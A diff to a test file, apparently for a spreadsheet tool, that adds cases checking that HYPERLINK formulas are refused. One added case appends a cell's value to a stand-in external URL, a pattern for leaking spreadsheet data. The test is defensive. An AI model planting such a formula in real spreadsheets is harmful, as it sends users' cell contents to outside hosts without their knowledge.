@@ -149,6 +149,8 @@ describe('a link', () => {
   it.each([
     ['HYPERLINK(Links!A1,"watch")', '=Links!A1'],
     ['HYPERLINK(A9)', '=A9'],
+    ['HYPERLINK("https://x.example/"&amp;A2,"watch")', '="https://x.example/"&A2'],
+    ['IF(A2,HYPERLINK(B2,"watch"),"")', '=IF(A2,HYPERLINK(B2,"watch"),"")'],
     ['HYPERLINK("#Links!A1","watch")', '#Links!A1'],
     ['HYPERLINK("clips/1.mp4","watch")', 'clips/1.mp4'],
   ])('to anything else is refused with what it points at: %s', async (formula, target) => {
